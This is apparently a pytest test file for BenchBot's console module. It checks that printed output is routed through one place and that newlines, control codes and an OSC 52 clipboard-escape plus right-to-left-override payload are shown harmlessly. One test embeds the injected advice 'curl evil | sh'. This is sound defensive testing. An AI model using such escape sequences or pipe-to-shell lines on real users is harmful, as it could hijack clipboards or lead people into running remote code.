"""The terminal, as the commands use it: nothing foreign passes for a line of BenchBot's own."""

import ast
import json
from collections.abc import Iterator
from pathlib import Path

import pytest

from benchbot.cli.kit import console
from benchbot.core.errors import BenchbotError

ROOT = Path(__file__).parents[3]
CHOKE_POINTS = {"benchbot/cli/kit/console.py", "benchbot/cli/kit/status_line.py"}
OTHERS = {
    "benchbot/api/benchbot.py": "the output of a solution",
    "benchbot/api/tools/__init__.py": "the output of a solution",
    "benchbot/emergency_stop.py": "it imports the standard library alone, and writes foreign characters out by itself",
    "benchbot/plugins/certification/conformance_run.py": "what a child process answers, as JSON",
    "benchbot/plugins/preflight/probe.py": "what a child process answers, as JSON",
    "benchbot/plugins/tui/terminal_answers.py": "a question to the terminal, without a word of others",
    "benchbot/supervisor/platform/process.py": "the log of a run",
    "plugins/robot_ros2/src/benchbot_robot_ros2/calls.py": "the log of a run",
    "plugins/robot_ros2/src/benchbot_robot_ros2/guard/link.py": "the log of a run",
    "plugins/scenes/src/benchbot_scenes/packs/command.py": "a bar, without a word of others",
    "plugins/sim_taichi/src/benchbot_sim_taichi/gpu_query.py": "what a child process answers, as JSON",
    "plugins/sim_taichi/src/benchbot_sim_taichi/light_process.py": "what a child process tells of its progress",
}
"""What else prints, and why that may be."""
PRINTS = {"print", "input", "Console", *(f"typer.{name}" for name in ("echo", "secho", "confirm", "prompt", "style"))}
STREAMS = {"sys.stdout", "sys.stderr", "sys.__stdout__", "sys.__stderr__"}
ESCAPE = "\x1b]52;c;cm0=\x07\u202e"


def test_everything_is_printed_by_way_of_the_console() -> None:
    around = {}
    for folder in (ROOT / "benchbot", ROOT / "benchbot_eval", *(ROOT / "plugins").glob("*/src")):
        for path in folder.rglob("*.py"):
            name = path.relative_to(ROOT).as_posix()
            if name not in CHOKE_POINTS | OTHERS.keys() and "examples" not in path.parts:
                around[name] = list(prints(ast.parse(path.read_text("utf-8"))))
    assert {name: found for name, found in around.items() if found} == {}


def prints(tree: ast.Module) -> Iterator[str]:
    """Yield what a module prints with, and the streams that it uses but for asking what they are."""
    asked = {
        id(node.value)
        for node in ast.walk(tree)
        if isinstance(node, ast.Attribute) and node.attr in ("isatty", "fileno", "flush")
    }
    for node in ast.walk(tree):
        if isinstance(node, ast.Call):
            if ast.unparse(node.func) in PRINTS:
                yield f"line {node.lineno}: {ast.unparse(node.func)}"
        elif isinstance(node, ast.Attribute) and id(node) not in asked and ast.unparse(node) in STREAMS:
            yield f"line {node.lineno}: {ast.unparse(node)}"


def test_an_argument_is_a_line(capsys: pytest.CaptureFixture[str]) -> None:
    console.data("miniroom\nResult: 1.0", ESCAPE)
    console.note("miniroom\r\nResult: 1.0")
    console.note()

    shown = capsys.readouterr()
    assert shown.out == "miniroom Result: 1.0\n\\u001b]52;c;cm0=\\u0007\\u202e\n"
    assert shown.err == "miniroom  Result: 1.0\n\n"


def test_a_cell_of_a_table_is_no_line_of_its_own(capsys: pytest.CaptureFixture[str]) -> None:
    console.table(["name", "b"], [(f"a{ESCAPE}", "1"), ("long\nb", "2")])

    rows = capsys.readouterr().out.splitlines()
    assert [row.split()[-1] for row in rows] == ["1", "2"]
    assert len({row.rindex(row.split()[-1]) for row in rows}) == 1


def test_an_error_tells_its_fix_from_a_program_s_last_words(capsys: pytest.CaptureFixture[str]) -> None:
    console.error(BenchbotError(f"No {ESCAPE}\nError: x", "It ended.\n\nFix: curl evil | sh", "Mend it:\nso"))

    assert capsys.readouterr().err.splitlines() == [
        "Error: No \\u001b]52;c;cm0=\\u0007\\u202e Error: x",
        "",
        "  It ended.",
        "  | ",
        "  | Fix: curl evil | sh",
        "",
        "  Fix: Mend it:",
        "       so",
    ]


def test_json_is_safe_and_the_same(capsys: pytest.CaptureFixture[str]) -> None:
    document = {"name": f"Grüße {ESCAPE} \x9b2J \x7f"}

    console.data_json(document)

    shown = capsys.readouterr().out
    assert json.loads(shown) == document
    assert "Grüße" in shown
    assert shown.replace("\n", "").isprintable()


def test_a_whole_text_keeps_its_lines(capsys: pytest.CaptureFixture[str]) -> None:
    console.document(f"a:\n\tb{ESCAPE}")

    assert capsys.readouterr().out == "a:\n\tb\\u001b]52;c;cm0=\\u0007\\u202e\n"
